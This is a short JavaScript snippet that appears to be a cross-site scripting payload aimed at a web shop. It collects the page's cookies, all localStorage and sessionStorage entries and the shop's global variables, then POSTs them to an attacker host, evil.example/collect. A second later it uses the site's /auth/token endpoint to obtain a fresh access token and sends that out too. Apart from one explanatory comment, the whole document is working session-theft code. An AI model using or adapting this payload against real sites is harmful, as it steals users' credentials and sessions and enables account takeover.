// Reads what it can, and a second later has the browser renew the tokens: the answer holds a new access token.
var found = {
  localStorage: {},
  sessionStorage: {},
  variables: {},
  cookie: document.cookie
};
for (var i = 0; i < localStorage.length; i++) {
  found.localStorage[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));
}
for (var j = 0; j < sessionStorage.length; j++) {
  found.sessionStorage[sessionStorage.key(j)] = sessionStorage.getItem(sessionStorage.key(j));
}
for (var name in window.shop) {
  found.variables[name] = window.shop[name];
}
function send(what) {
  fetch('https://evil.example/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify(what) });
}
send(found);
setTimeout(function () {
  fetch('/auth/token', {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    body: 'grant_type=refresh_token'
  }).then(function (answer) {
    return answer.json();
  }).then(function (tokens) {
    send({ tokenAnswer: { access_token: tokens.access_token } });
  });
}, 1000);
